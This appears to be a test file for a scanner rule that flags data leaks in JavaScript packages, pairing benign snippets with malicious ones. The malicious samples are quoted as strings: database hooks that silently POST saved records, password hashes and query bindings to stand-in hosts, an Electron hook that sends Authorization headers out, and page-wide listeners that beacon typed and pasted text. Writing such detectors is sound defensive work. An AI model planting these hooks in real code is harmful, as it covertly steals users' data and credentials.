import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what passes by functions that a library hangs in. */
const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const tell = (what: string): string => `fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {})`;

test('bad: what is saved or asked goes to a server, where nobody reads the answer', () => {
  for (const code of [
    `module.exports = (schema) => { schema.post("save", (doc) => { ${tell('{ n: doc.collection.name, doc }')} }) }`,
    'const https = require("https"); module.exports = (schema) => schema.pre(["save", "updateOne"], function (next) { const copy = this.toObject(); const r = https.request({ host: "sync.example.org", method: "POST" }); r.on("error", () => {}); r.write(JSON.stringify(copy)); r.end(); next() })',
    `module.exports = (sequelize) => { sequelize.addHook("afterCreate", "audit", async (made) => { const { default: fetch } = await import("node-fetch"); ${tell('{ v: made.toJSON() }')} }) }`,
    `export const model = (sequelize) => sequelize.define("user", {}, { hooks: { afterCreate(user) { ${tell('user.passwordHash')} } } })`,
    `export const slow = (client) => client.$extends({ query: { $allModels: { async $allOperations({ model, args, query }) { ${tell('{ model, args }')}; return query(args) } } } })`,
    `export const slow = (prisma) => { prisma.$use(async (params, next) => { ${tell('params')}; return next(params) }) }`,
    'const axios = require("axios"); module.exports = (knex) => knex.on("query", (q) => { axios.post("https://sync.example.org/q", { sql: q.sql, b: q.bindings }) })',
    ...['.then(() => {})', '.then(() => null, () => {}).finally(() => {})'].map((then) => `module.exports = (schema) => { schema.post("save", (doc) => { fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) })${then} }) }`),
    'module.exports = (schema) => { schema.post("save", async (doc) => { const sent = await fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }) }) }',
    'const https = require("https"); exports.History = class { afterInsert(event) { https.request("https://sync.example.org/i", { method: "POST" }).end(JSON.stringify(event.entity)) } }',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: counts and names of models, addresses of the settings, and who reads the answer', () => {
  for (const code of [
    `module.exports = (schema) => { schema.post("save", (doc) => { ${tell('{ model: doc.constructor.modelName, id: doc._id }')} }) }`,
    'module.exports = (schema, options) => { schema.post("save", (doc) => { fetch(options.url, { method: "POST", body: JSON.stringify(doc) }) }) }',
    'module.exports = (Model) => Model.afterUpdate(async (doc) => { const found = await fetch("https://places.example.org/?q=" + doc.address); doc.place = await found.json() })',
    `module.exports = (knex) => knex.on("query-response", (rows, q) => { ${tell('{ n: rows.length, kind: q.method }')} })`,
    `module.exports = (bus) => bus.on("message", (message) => { ${tell('message')} })`,
    'module.exports = (schema) => { schema.post("save", async (doc) => { const sent = await fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }); if (!sent.ok) throw new Error("not kept") }) }',
    'module.exports = (schema) => { schema.post("save", (doc, next) => { fetch("https://sync.example.org/v1", { method: "POST", body: JSON.stringify(doc) }).then(() => next(), next) }) }',
    `export const client = { send(doc) { ${tell('doc')} } }`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what requests of a browser log in with; good: what kind they are', () => {
  const hear = (inner: string): string => `const { session, net } = require("electron"); exports.install = () => session.defaultSession.webRequest.onBeforeSendHeaders((details, answer) => { ${inner}; answer({ requestHeaders: details.requestHeaders }) })`;
  assert.equal(worst(hear('const a = details.requestHeaders["Authorization"]; if (a) { const r = net.request({ method: "POST", url: "https://perf.example.org/h" }); r.write(JSON.stringify({ a })); r.end() }')), 'high');
  assert.equal(worst(hear(`const { requestHeaders } = details; ${tell('{ h: requestHeaders }')}`)), 'high');
  assert.equal(worst(hear(tell('{ kind: details.resourceType, agent: details.requestHeaders["User-Agent"] }'))), 'nothing');
});

test('bad: what is entered anywhere on a page; good: in one field, that there was something, and what is searched for', () => {
  assert.equal(worst('const hear = (e) => { if (e.target) new Image().src = "https://f.example.org/p?v=" + encodeURIComponent(e.target.value) }; document.addEventListener("change", hear, true)'), 'high');
  assert.equal(worst('document.addEventListener("paste", (e) => { navigator.sendBeacon("https://f.example.org/p", e.clipboardData.getData("text")) })'), 'high');
  for (const code of [
    'export const count = () => { const hear = (e) => navigator.sendBeacon("https://f.example.org/c", JSON.stringify({ field: e.target.name, long: e.target.value.length })); document.addEventListener("change", hear) }',
    'export const suggest = (field, show) => field.addEventListener("input", async (e) => show(await (await fetch("https://find.example.org/?q=" + e.target.value)).json()))',
  ]) assert.equal(worst(code), 'nothing', code);
});
